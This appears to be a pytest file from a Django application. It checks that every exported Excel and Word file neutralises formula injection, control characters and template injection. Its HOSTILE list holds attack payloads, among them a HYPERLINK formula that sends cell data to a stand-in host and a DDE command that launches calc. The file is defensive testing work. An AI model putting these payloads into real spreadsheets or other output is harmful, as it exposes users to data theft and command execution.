"""No generated spreadsheet cell is ever a live formula, and no control character survives (DESIGN §9, T29, T30).

Every .xlsx the system produces is made here from data whose text fields hold formula starts
(= + - @ and the DDE form) and control characters: the list templates and exports of every
list, the expert-pool template and export, the district's 推荐汇总表, the 评审汇总表 and every
dashboard download. All of them go through the one writer (shifan/documents/xlsx/writer.py);
a structural test keeps it that way. The .docx side: every template render cleans its context.
"""

import ast
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.db import models
from openpyxl import load_workbook

from shifan.accounts.models import Jurisdiction
from shifan.applications.enums import Status
from shifan.applications.list_excel import list_template, list_workbook
from shifan.applications.models import ApplicationProfile
from shifan.applications.sections import LISTS
from shifan.city_review.documents.summary import panel_summary_xlsx
from shifan.district_review.documents import summary_for
from shifan.documents.docx import render_docx
from shifan.documents.xlsx import Column, Kind, Sheet, export_rows
from shifan.experts.excel import export_pool, pool_template
from shifan.experts.models import Expert
from shifan.workspace.dashboard import BatchDashboard
from tests.documents.docx_reading import open_docx
from tests.factories import ApplicationFactory, OrganizationFactory
from tests.review_factories import make_expert, make_group, put_in_group, seat_expert, submit_score

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
# No NUL: PostgreSQL refuses it in text columns, and Django's form fields refuse it on input.
CONTROLS = "\x01\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f\x85"
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
    "\t=1", "#N/A", " =1+2", "=1+1",
]
# Controls a cell or a Word run may not hold (tab and line feed are text).
_BAD_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def hostile(index: int, max_length: int | None = None) -> str:
    value = HOSTILE[index % len(HOSTILE)] + CONTROLS + "甲"
    return value[:max_length] if max_length else value


def _fill(model, index: int = 0, **fixed) -> dict:
    """Values for every concrete field of ``model``: hostile text in each free-text field, a valid value elsewhere."""
    values = dict(fixed)
    for number, field in enumerate(model._meta.concrete_fields):
        if field.name in values or field.primary_key or field.is_relation or (field.has_default() and not isinstance(
                field, models.CharField | models.TextField)):
            continue
        if field.choices:
            values[field.name] = field.choices[0][0]
        elif isinstance(field, models.CharField | models.TextField):
            values[field.name] = hostile(index + number, field.max_length)
        elif isinstance(field, models.BooleanField):
            values[field.name] = True
        elif isinstance(field, models.DateField):
            values[field.name] = date(2025, 6, 1)
        elif isinstance(field, models.DecimalField):
            values[field.name] = Decimal("-5")
        elif isinstance(field, models.IntegerField):
            values[field.name] = 3
    return values


def assert_no_formula(data: bytes, label: str) -> int:
    """Open the workbook two ways and check every cell of every sheet; the number of text cells checked."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"{label}: formula element in {name}"
    workbook = load_workbook(io.BytesIO(data))
    texts = 0
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{label}: {worksheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts += 1
                    assert not _BAD_CONTROL.search(cell.value), f"{label}: control character in {cell.coordinate}"
                    if cell.value.lstrip().startswith(("=", "+", "-", "@")) and cell.data_type == "s":
                        assert cell.quotePrefix or cell.value.startswith(("+", "-", "@")), label
            for cell in row:
                if cell.comment is not None:
                    assert not _BAD_CONTROL.search(cell.comment.text), label
        assert not _BAD_CONTROL.search(worksheet.title)
    return texts


def _hostile_texts_present(data: bytes) -> bool:
    workbook = load_workbook(io.BytesIO(data))
    values = {str(cell.value) for ws in workbook.worksheets for row in ws.iter_rows() for cell in row if cell.value}
    return any(text + "甲" in value for value in values for text in HOSTILE)


# --- the exporters ---------------------------------------------------------------------------

@pytest.fixture
def hostile_world(personas, batch, district_x):
    """A batch whose every text field that reaches a spreadsheet holds a formula start and controls."""
    Jurisdiction.objects.filter(pk=district_x.pk).update(name=hostile(0, 50))
    batch.__class__.objects.filter(pk=batch.pk).update(name=hostile(1, 100))
    batch.refresh_from_db()
    officer = personas["bureau_officer"]
    applications = []
    for index, status in enumerate((Status.RECOMMENDED, Status.IN_REVIEW, Status.REVIEWED)):
        organization = OrganizationFactory(jurisdiction=district_x, name=hostile(index + 2, 200))
        application = ApplicationFactory(organization=organization, batch=batch, status=status,
                                         platform_name=hostile(index + 3, 200))
        ApplicationProfile.objects.create(application=application, service_functions=["technology"],
                                          contact_name=hostile(index + 4, 50), contact_phone="13912345678")
        applications.append(application)
    draft = applications[0]
    for index, row_list in enumerate(LISTS.values()):
        row_list.model.objects.create(**_fill(row_list.model, index, application=draft))
    from shifan.city_review.models import Indicator

    for number, indicator in enumerate(Indicator.objects.filter(batch=batch)):
        Indicator.objects.filter(pk=indicator.pk).update(name=hostile(number, 100), category=hostile(number + 1, 50))
    group = make_group(batch, actor=officer, name=hostile(5, 50))
    expert = make_expert(name=hostile(6, 50), employer_name=hostile(7, 200), title=hostile(8, 100),
                         availability_note=hostile(0, 200), jurisdiction=district_x)
    seat = seat_expert(group, expert, actor=officer)
    for application in applications[1:]:
        put_in_group(application, group, officer)
        submit_score(application, group=group, scorer=expert.user, seat=seat, points=Decimal("80"))
    return {"batch": batch, "draft": draft}


def _exports(personas, world) -> dict[str, bytes]:
    batch, officer = world["batch"], personas["bureau_officer"]
    files = {}
    for kind in LISTS:
        files[f"list template {kind}"] = list_template(kind)
        files[f"list export {kind}"] = list_workbook(world["draft"], kind)
    files["expert pool template"] = pool_template()
    files["expert pool export"] = export_pool(Expert.objects.all(), actor=officer)
    files["district summary"] = summary_for(personas["officer_x"], batch).data
    files["panel summary"] = panel_summary_xlsx(batch, actor=officer).data
    for chart in BatchDashboard(batch, officer).charts():
        files[f"dashboard {chart.code}"] = chart.xlsx(batch)
    return files


def test_every_exported_workbook_has_no_formula_and_no_control_character(personas, hostile_world):
    files = _exports(personas, hostile_world)
    for label, data in files.items():
        assert_no_formula(data, label)
    # The hostile text did reach the files (else the test proves nothing): exports of the lists,
    # the pool, both summaries.
    reached = [label for label, data in files.items() if _hostile_texts_present(data)]
    for label in ("list export served_smes", "list export staff", "expert pool export", "district summary",
                  "panel summary"):
        assert label in reached, f"{label}: hostile data did not reach the file"


def test_the_writer_itself_resists_hostile_titles_headers_options_and_values():
    """Everything of a Sheet is data somewhere (indicator names become headers, jurisdictions options)."""
    columns = [
        Column("text", hostile(0, 40), Kind.TEXT, hint=hostile(1)),
        Column("digits", hostile(2, 40), Kind.DIGITS_TEXT),
        Column("choice", hostile(3, 40), Kind.CHOICE, choices=(("a", hostile(4, 40)), ("b", hostile(5, 40)))),
        Column("number", "数", Kind.DECIMAL),
        Column("date", "日期", Kind.DATE),
    ]
    sheet = Sheet("名单", columns, (hostile(6), hostile(7)))
    rows = [{"text": hostile(n), "digits": hostile(n + 1), "choice": "a", "number": Decimal("-5"),
             "date": date(2025, 1, 2)} for n in range(len(HOSTILE))]
    data = export_rows(sheet, rows)
    assert assert_no_formula(data, "writer") > len(HOSTILE)
    workbook = load_workbook(io.BytesIO(data))
    assert workbook["名单"]["D2"].value == -5  # numbers stay numbers


# --- nothing writes a workbook or a Word file around the shared helpers ----------------------

_XLSX_WRITERS = {"Workbook", "xlsxwriter", "WriteOnlyCell"}
_DOCX_WRITERS = {"DocxTemplate", "Document"}


def _imported_names(path: Path) -> set[str]:
    names = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and node.module and node.module.split(".")[0] in (
                "openpyxl", "xlsxwriter", "docx", "docxtpl"):
            names |= {alias.name for alias in node.names}
        elif isinstance(node, ast.Import):
            names |= {alias.name for alias in node.names if alias.name.split(".")[0] in ("xlsxwriter",)}
    return names


def test_workbooks_are_written_only_by_the_shared_writer():
    """An exporter must use documents.xlsx.export_rows / build_template, which type every cell."""
    offenders = [
        str(path.relative_to(ROOT)) for path in (ROOT / "shifan").rglob("*.py")
        if "documents/xlsx" not in path.as_posix() and _imported_names(path) & _XLSX_WRITERS
    ]
    assert offenders == []


def test_word_files_are_rendered_only_with_a_cleaned_context():
    offenders = [
        str(path.relative_to(ROOT)) for path in (ROOT / "shifan").rglob("*.py")
        if "documents/docx" not in path.as_posix() and _imported_names(path) & _DOCX_WRITERS
        and "clean_context(" not in path.read_text(encoding="utf-8")
    ]
    assert offenders == []


def test_a_word_document_keeps_hostile_text_literal_and_drops_control_characters():
    context = {"applicant": hostile(0) + "{{7*7}}{% if 1 %}x{% endif %}", "signer": hostile(1) + "<w:t>&amp;",
               "signed_on": hostile(2)}
    data = render_docx("declaration.docx", context)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        body = archive.read("word/document.xml").decode()
        relationships = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels"))
    assert not _BAD_CONTROL.search(body.replace("\t", ""))
    assert "TargetMode=\"External\"" not in relationships
    assert "fldSimple" not in body and "instrText" not in body
    text = "".join(node.text or "" for node in open_docx(data).element.body.iter() if node.tag.endswith("}t"))
    assert '=HYPERLINK("http://x.example/?"&A1,"点击")甲' in text
    assert "{{7*7}}" in text and "49" not in text
    assert "<w:t>&amp;" in text
